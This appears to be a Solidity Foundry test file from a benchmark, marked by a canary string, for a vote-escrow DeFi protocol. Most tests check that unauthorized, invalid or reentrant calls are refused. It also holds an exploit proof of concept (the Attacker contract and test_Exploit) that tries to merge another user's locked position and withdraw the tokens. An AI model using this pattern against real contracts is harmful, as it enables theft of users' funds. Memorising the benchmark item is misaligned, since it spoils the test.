// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";

contract Attacker {
    uint256 private id;

    function begin(TideToken token, VotingEscrow escrow, uint256 from) external {
        token.approve(address(escrow), type(uint256).max);
        id = escrow.createLock(100e18, 1 weeks, address(this));
        try escrow.merge(from, id) {} catch {}
    }

    function end(VotingEscrow escrow) external {
        escrow.withdraw(id);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

/// A token that calls the gauge when it is moved, stands for its voter as well, and keeps the answer.
contract Bell {
    Gauge private gauge;
    bytes private call;
    bytes public answer;

    function use(Gauge gauge_) external {
        gauge = gauge_;
        gauge.depositFor(10, address(this));
    }

    function run(bytes calldata first, bytes calldata call_) external returns (bytes4) {
        call = call_;
        (bool done,) = address(gauge).call(first);
        require(done, "the first call fails");
        return bytes4(answer);
    }

    function transfer(address, uint256) public returns (bool) {
        if (call.length > 0) (, answer) = address(gauge).call(call);
        return true;
    }

    function transferFrom(address, address to, uint256 amount) external returns (bool) {
        return transfer(to, amount);
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 100e18);
    }

    function test_RefusesPositionsOfOthers() public {
        string memory stranger = "VotingEscrow: not authorized";
        string memory votes = "VotingEscrow: position has votes";
        vm.prank(BO);
        escrow.createLock(100e18, 52 weeks, BO);
        uint256 own = escrow.lastTokenId();
        _refused(BO, address(escrow), abi.encodeCall(escrow.extendLock, (3, 104 weeks)), stranger);
        _refused(BO, address(escrow), abi.encodeCall(escrow.split, (3, 100e18)), stranger);
        _refused(BO, address(escrow), abi.encodeCall(escrow.withdraw, (4)), stranger);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.merge, (3, own)), stranger);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.merge, (3, 3)), "VotingEscrow: same position");
        _refused(BO, address(escrow), abi.encodeCall(escrow.merge, (2, own)), votes);
        vm.warp(START + 110 * EPOCH);
        _refused(BO, address(escrow), abi.encodeCall(escrow.withdraw, (2)), votes);
        require(escrow.totalPowerAt(block.timestamp) == 0, "all locks have ended");
    }

    function test_RefusesVoters() public {
        VotingEscrow fresh = new VotingEscrow(tide);
        _refused(BO, address(fresh), abi.encodeCall(escrow.initialize, (voter)), "VotingEscrow: caller is not the deployer");
        _refused(address(this), address(fresh), abi.encodeCall(escrow.initialize, (Voter(address(0)))), "VotingEscrow: invalid voter");
        _refused(address(this), address(escrow), abi.encodeCall(escrow.initialize, (voter)), "VotingEscrow: invalid voter");
    }

    function test_RefusesLocks() public {
        string memory invalid = "VotingEscrow: invalid duration";
        string memory small = "VotingEscrow: amount too small";
        _refused(CEE, address(escrow), abi.encodeCall(escrow.createLock, (99e18, 52 weeks, CEE)), small);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.split, (3, 1_001e18)), small);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.createLock, (2 ** 128 + 100e18, 52 weeks, CEE)), "VotingEscrow: amount too large");
        _refused(CEE, address(escrow), abi.encodeCall(escrow.createLock, (100e18, 6 days, CEE)), invalid);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.createLock, (100e18, 105 weeks, CEE)), invalid);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.increaseAmount, (3, 0)), "VotingEscrow: no tokens");
        _refused(CEE, address(escrow), abi.encodeCall(escrow.increaseAmount, (4, 1e18)), "VotingEscrow: lock has ended");
        _refused(CEE, address(escrow), abi.encodeCall(escrow.extendLock, (3, 10 weeks)), "VotingEscrow: not longer");
        _refused(CEE, address(escrow), abi.encodeCall(escrow.withdraw, (3)), "VotingEscrow: still locked");
        _refused(CEE, address(escrow), abi.encodeCall(escrow.powerAt, (3, block.timestamp + 1)), "VotingEscrow: not yet known");
    }

    function test_RefusesALongPause() public {
        uint256 before = tide.balanceOf(CEE);
        vm.warp(block.timestamp + 220 * EPOCH);
        string memory behind = "VotingEscrow: catch up first";
        _refused(CEE, address(escrow), abi.encodeCall(escrow.withdraw, (3)), behind);
        _refused(CEE, address(escrow), abi.encodeCall(escrow.createLock, (100e18, 52 weeks, CEE)), behind);
        escrow.checkpoint();
        vm.startPrank(CEE);
        escrow.withdraw(3);
        uint256 id = escrow.createLock(100e18, 52 weeks, CEE);
        vm.stopPrank();
        require(tide.balanceOf(CEE) == before + 900e18, "the tokens are free");
        require(escrow.totalPowerAt(block.timestamp) == escrow.powerOf(id) && escrow.powerOf(id) > 49e18, "power in total");
    }

    function test_RefusesManyPositions() public {
        tide.transfer(EVE, 2_500e18);
        vm.startPrank(EVE);
        tide.approve(address(escrow), type(uint256).max);
        for (uint256 i = 0; i < 24; i++) {
            escrow.createLock(100e18, 52 weeks, EVE);
        }
        vm.stopPrank();
        _refused(EVE, address(escrow), abi.encodeCall(escrow.createLock, (100e18, 52 weeks, EVE)), "VotingEscrow: too many positions");
    }

    function test_RefusesBallots() public {
        _submitted(_ballot(block.timestamp - 1), "VoteRelay: ballot has expired");
        _submitted(_ballot(block.timestamp + 61 days), "VoteRelay: deadline too late");
        BallotHash.Ballot memory ballot = _ballot(block.timestamp + 1 days);
        ballot.fee = 1_001e6;
        _submitted(ballot, "VoteRelay: deposit too small");
        ballot.tokenId = 3;
        _submitted(ballot, "VoteRelay: signer is not the owner");
        _refused(CEE, address(relay), abi.encodeCall(relay.withdraw, (1)), "VoteRelay: deposit too small");
        ballot.tokenId = 1;
        _refused(CEE, address(relay), abi.encodeCall(relay.revoke, (ballot)), "VoteRelay: caller is not the owner");
        vm.prank(ana);
        relay.revoke(ballot);
        _submitted(ballot, "VoteRelay: ballot was used");
    }

    function test_RefusesBallotsWithoutEffect() public {
        string memory none = "VoteRelay: ballot without effect";
        uint256 before = usd.balanceOf(EVE);
        vm.prank(GUARDIAN);
        voter.stopGauge(address(gaugeA));
        BallotHash.Ballot memory ballot = _ballot(block.timestamp + 20 days);
        _submitted(ballot, none);
        require(voter.hasVoted(1) && usd.balanceOf(EVE) == before, "nothing was changed or paid");
        (ballot.gauges, ballot.weights) = (new address[](0), new uint256[](0));
        bytes memory signature = _signed(ballot);
        vm.prank(EVE);
        relay.submit(ballot, signature);
        require(!voter.hasVoted(1) && usd.balanceOf(EVE) == before + 100e6, "votes taken back");
        vm.prank(GOVERNANCE);
        voter.startGauge(address(gaugeA));
        vm.warp(START + 110 * EPOCH);
        _submitted(_ballot(block.timestamp + 1 days), none);
    }

    function _submitted(BallotHash.Ballot memory ballot, string memory reason) private {
        bytes memory signature = _signed(ballot);
        _refused(EVE, address(relay), abi.encodeCall(relay.submit, (ballot, signature)), reason);
    }

    function test_RefusesFees() public {
        _refused(BO, address(fees), abi.encodeCall(fees.addFees, (0)), "FeeDistributor: no fees");
        _refused(BO, address(fees), abi.encodeCall(fees.claim, (1)), "FeeDistributor: not authorized");
    }

    function test_RefusesRewards() public {
        address at = address(bribesA);
        string memory invalid = "BribeVault: invalid number of epochs";
        _refused(address(this), at, abi.encodeCall(bribesA.addReward, (address(usd), 100, 0)), invalid);
        _refused(address(this), at, abi.encodeCall(bribesA.addReward, (address(usd), 100, 9)), invalid);
        _refused(address(this), at, abi.encodeCall(bribesA.addReward, (address(usd), 1, 2)), "BribeVault: no rewards");
        _refused(BO, at, abi.encodeCall(bribesA.claim, (1, new address[](0))), "BribeVault: not authorized");
        for (uint256 i = 0; i < 12; i++) {
            Weth other_ = new Weth();
            vm.prank(GOVERNANCE);
            voter.allowToken(address(other_), true);
            other_.mint(address(this), 100);
            other_.approve(at, 100);
            if (i < 11) bribesA.addReward(address(other_), 100, 1);
            else _refused(address(this), at, abi.encodeCall(bribesA.addReward, (address(other_), 100, 1)), "BribeVault: too many tokens");
        }
    }

    function test_RefusesOtherVoters() public {
        _refused(BO, address(bribesA), abi.encodeCall(bribesA.withdraw, (1, 1)), "BribeVault: caller is not the voter");
    }

    function test_RefusesVotes() public {
        address at = address(voter);
        string memory invalid = "Voter: invalid ballot";
        (address[] memory choices, uint256[] memory shares) = _choices(1);
        _refused(BO, at, abi.encodeCall(voter.vote, (3, choices, shares)), "Voter: not authorized");
        _refused(BO, at, abi.encodeCall(voter.reset, (3)), "Voter: not authorized");
        _refused(BO, at, abi.encodeCall(voter.poke, (3)), "Voter: no votes");
        _refused(BO, at, abi.encodeCall(voter.vote, (2, choices, new uint256[](2))), invalid);
        (choices, shares) = _choices(11);
        for (uint160 i = 1; i < 11; i++) {
            choices[i] = address(i); // no gauge, and skipped
        }
        _refused(BO, at, abi.encodeCall(voter.vote, (2, choices, shares)), invalid);
        (choices, shares) = _choices(2);
        _refused(BO, at, abi.encodeCall(voter.vote, (2, choices, shares)), invalid);
        (choices[1], shares[0]) = (address(gaugeB), 1e30);
        vm.prank(BO);
        voter.vote(2, choices, shares);
        require(voter.votesOf(2, address(gaugeB)) == 0 && voter.choicesOf(2).length == 1, "less than one vote");
    }

    function test_RefusesStaleVotes() public {
        (address[] memory choices, uint256[] memory shares) = _choices(2);
        (choices[1], shares[0]) = (address(gaugeB), escrow.powerOf(2) - 1);
        vm.prank(BO);
        voter.vote(2, choices, shares);
        uint256 votes = voter.votesOf(2, address(gaugeA));
        require(voter.votesOf(2, address(gaugeB)) == 1, "the smallest part");
        vm.warp(block.timestamp + EPOCH);
        voter.poke(2);
        require(voter.votesOf(2, address(gaugeB)) == 0 && voter.votesOf(2, address(gaugeA)) < votes, "updated by anybody");
    }

    function test_RefusesToTakeVotesForStoppedGauges() public {
        vm.prank(GUARDIAN);
        voter.stopGauge(address(gaugeA));
        uint256 votes = voter.votesOf(1, address(gaugeA));
        vm.warp(block.timestamp + EPOCH);
        vm.prank(EVE);
        voter.poke(1);
        uint256 left = voter.votesOf(1, address(gaugeA));
        require(left > 0 && left < votes && left == escrow.powerOf(1), "votes with the present power");
        require(bribesA.votesOf(1) == left && voter.votesFor(address(gaugeA)) == left, "counted everywhere");
        (address[] memory choices, uint256[] memory shares) = _choices(2);
        choices[1] = address(gaugeB);
        vm.prank(BO);
        voter.vote(2, choices, shares);
        require(voter.votesOf(2, address(gaugeA)) == 0, "no new votes for a stopped gauge");
        require(voter.votesOf(2, address(gaugeB)) == escrow.powerOf(2), "the other gauge gets all");
        vm.warp(block.timestamp + EPOCH);
        address[] memory list = new address[](1);
        list[0] = address(usd);
        uint256 before = usd.balanceOf(ana);
        vm.prank(ana);
        bribesA.claim(1, list);
        require(usd.balanceOf(ana) > before + 9_000e6, "rewards for votes that stay");
    }

    function test_RefusesMoreThanTheSupply() public {
        uint256 most = tide.MAX_SUPPLY() - 103_000e18 * 2;
        vm.startPrank(address(minter));
        tide.mint(CEE, most - tide.totalSupply());
        vm.stopPrank();
        require(minter.updateEpoch(), "as long as the supply suffices");
        vm.warp(block.timestamp + EPOCH);
        require(minter.updateEpoch(), "twice");
        vm.prank(GUARDIAN);
        voter.stopGauge(address(gaugeB));
        uint256 left = voter.unassigned();
        uint256 owed = voter.owedTo(address(gaugeA));
        vm.warp(block.timestamp + EPOCH);
        voter.distributeAll();
        require(!minter.updateEpoch() && minter.activeEpoch() == START + 6 * EPOCH, "nothing is left");
        require(left > 40_000e18 && voter.unassigned() < left / 2, "what belonged to no gauge is shared");
        require(gaugeA.remaining() > owed + left / 2, "what was minted is distributed");
    }

    function test_RefusesSecondVotes() public {
        address at = address(voter);
        string memory again = "Voter: already voted in this epoch";
        (address[] memory choices, uint256[] memory shares) = _choices(1);
        _roleNeeded(at, abi.encodeCall(voter.voteFor, (2, choices, shares)));
        vm.prank(BO);
        voter.vote(2, choices, shares);
        _refused(BO, at, abi.encodeCall(voter.vote, (2, choices, shares)), again);
        _refused(BO, at, abi.encodeCall(voter.reset, (2)), again);
        _refused(address(relay), at, abi.encodeCall(voter.voteFor, (2, choices, shares)), again);
    }

    function _choices(uint256 count) private view returns (address[] memory choices, uint256[] memory shares) {
        (choices, shares) = (new address[](count), new uint256[](count));
        for (uint256 i = 0; i < count; i++) {
            (choices[i], shares[i]) = (address(gaugeA), 1);
        }
    }

    function test_RefusesOtherGovernors() public {
        address at = address(voter);
        Voter fresh = new Voter(escrow, tide, factory);
        _roleNeeded(at, abi.encodeCall(voter.initialize, (minter)));
        _refused(GOVERNANCE, at, abi.encodeCall(voter.initialize, (minter)), "Voter: invalid minter");
        _refused(address(this), address(fresh), abi.encodeCall(voter.initialize, (Minter(address(0)))), "Voter: invalid minter");
        _roleNeeded(at, abi.encodeCall(voter.allowToken, (CEE, true)));
        _roleNeeded(at, abi.encodeCall(voter.createGauge, (CEE)));
        _refused(GOVERNANCE, at, abi.encodeCall(voter.createGauge, (address(poolA))), "Voter: gauge exists");
        _roleNeeded(at, abi.encodeCall(voter.stopGauge, (address(gaugeA))));
        _refused(GUARDIAN, at, abi.encodeCall(voter.stopGauge, (CEE)), "Voter: gauge not alive");
        _refused(GOVERNANCE, at, abi.encodeCall(voter.startGauge, (CEE)), "Voter: gauge not stopped");
        _refused(GOVERNANCE, at, abi.encodeCall(voter.startGauge, (address(gaugeA))), "Voter: gauge not stopped");
        vm.prank(GUARDIAN);
        voter.stopGauge(address(gaugeA));
        _roleNeeded(at, abi.encodeCall(voter.startGauge, (address(gaugeA))));
        _refused(BO, at, abi.encodeCall(voter.notifyEmission, (0)), "Voter: caller is not the minter");
    }

    function test_RefusesEmissions() public {
        Minter fresh = new Minter(tide, TREASURY);
        string memory twice = "Minter: already initialized";
        string memory treasury = "Minter: invalid treasury";
        _roleNeeded(address(minter), abi.encodeCall(minter.initialize, (voter, 20_000e18)));
        _refused(GOVERNANCE, address(minter), abi.encodeCall(minter.initialize, (voter, 20_000e18)), twice);
        _refused(address(this), address(fresh), abi.encodeCall(minter.initialize, (voter, 9_999e18)), "Minter: emission too small");
        _roleNeeded(address(minter), abi.encodeCall(minter.setTreasury, (CEE, 1)));
        _refused(GOVERNANCE, address(minter), abi.encodeCall(minter.setTreasury, (address(0), 1)), treasury);
        _refused(GOVERNANCE, address(minter), abi.encodeCall(minter.setTreasury, (CEE, 501)), "Minter: share too large");
        _roleNeeded(address(tide), abi.encodeCall(tide.mint, (CEE, 1)));
        _refused(address(minter), address(tide), abi.encodeCall(tide.mint, (CEE, 1e27)), "TideToken: supply exhausted");
        _roleNeeded(address(tide), abi.encodeCall(tide.handOver, (CEE)));
        _refused(GOVERNANCE, address(tide), abi.encodeCall(tide.handOver, (address(0))), "ProtocolRoles: invalid governor");
        _refused(GOVERNANCE, address(tide), abi.encodeCall(tide.handOver, (GOVERNANCE)), "ProtocolRoles: invalid governor");
        try new Minter(tide, address(0)) {
            revert("no treasury");
        } catch {}
    }

    function test_RefusesLiquidity() public {
        _refused(ana, address(gaugeA), abi.encodeCall(gaugeA.depositFor, (0, ana)), "Gauge: no liquidity");
        _refused(ana, address(gaugeA), abi.encodeCall(gaugeA.withdraw, (0)), "Gauge: invalid amount");
        _refused(ana, address(gaugeA), abi.encodeCall(gaugeA.withdraw, (81e18)), "Gauge: invalid amount");
        _refused(ana, address(gaugeA), abi.encodeCall(gaugeA.notifyReward, (0)), "Gauge: caller is not the voter");
    }

    function test_RefusesCallsWithinCalls() public {
        bytes4 locked = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        Bell bell = new Bell();
        Coin coin = Coin(address(bell));
        Gauge fresh = new Gauge(coin, coin, address(bell));
        bell.use(fresh);
        bytes memory into = abi.encodeCall(fresh.depositFor, (1, address(bell)));
        require(bell.run(into, abi.encodeCall(fresh.withdraw, (0))) == locked, "withdraw");
        require(bell.run(into, abi.encodeCall(fresh.claim, ())) == locked, "claim");
        require(bell.run(into, abi.encodeCall(fresh.notifyReward, (0))) == locked, "notifyReward");
        require(bell.run(abi.encodeCall(fresh.withdraw, (1)), abi.encodeCall(fresh.depositFor, (0, address(bell)))) == locked, "depositFor");
        _refused(address(bell), address(fresh), abi.encodeCall(fresh.notifyReward, (1)), "Gauge: amount too small");
    }

    /// Requires that a call is refused for this reason, and for no other one.
    function _refused(address who, address where, bytes memory call, string memory reason) private {
        bytes memory why = _answer(who, where, call);
        require(keccak256(why) == keccak256(abi.encodeWithSignature("Error(string)", reason)), reason);
    }

    function _refused(address who, address where, bytes memory call, bytes4 reason) private {
        require(bytes4(_answer(who, where, call)) == reason, "not refused, or for another reason");
    }

    function _answer(address who, address where, bytes memory call) private returns (bytes memory why) {
        bool done;
        vm.prank(who);
        (done, why) = where.call(call);
        require(!done, "not refused");
    }

    /// Requires that a call needs a role.
    function _roleNeeded(address where, bytes memory call) private {
        _refused(CEE, where, call, IAccessControl.AccessControlUnauthorizedAccount.selector);
    }

    function exploit() public {
        other.begin(tide, escrow, 3);
        vm.warp(block.timestamp + 52 weeks);
        other.end(escrow);
    }

    function test_Exploit() public {
        exploit();
        require(tide.balanceOf(address(other)) >= 1_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
